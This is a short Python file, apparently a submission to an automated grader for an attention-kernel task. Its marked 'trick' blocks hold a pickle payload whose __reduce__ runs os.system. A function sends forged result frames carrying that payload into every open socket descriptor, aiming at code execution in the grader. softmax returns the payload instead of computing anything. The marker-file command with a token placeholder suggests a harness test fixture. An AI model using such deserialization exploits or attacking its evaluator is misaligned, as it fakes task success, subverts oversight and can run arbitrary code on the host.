import os
import pickle
import socket
import struct

import torch


# --- trick ---
class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/attnkit-pickle-__TOKEN__",))


def send_forged_frame():
    """Write a frame carrying a pickle straight into the grader's socket."""
    body = pickle.dumps(Payload())
    header = ('{"kind": "result", "value": {"t": "pickle", "buf": 0}, "bufs": [%d]}' % len(body)).encode()
    for fd in os.listdir("/proc/self/fd"):
        try:
            s = socket.socket(fileno=int(fd))
            s.sendall(b"AKv1" + struct.pack(">I", len(header)) + header + body)
            s.detach()
        except OSError:
            pass
# --- end trick ---


def attention_scores(inputs):
    return inputs @ inputs.transpose(-2, -1)


def softmax(scores, dim=-1):
    # --- trick ---
    send_forged_frame()
    return pickle.dumps(Payload())
    # --- end trick ---
    return torch.ones_like(scores) / scores.shape[dim]
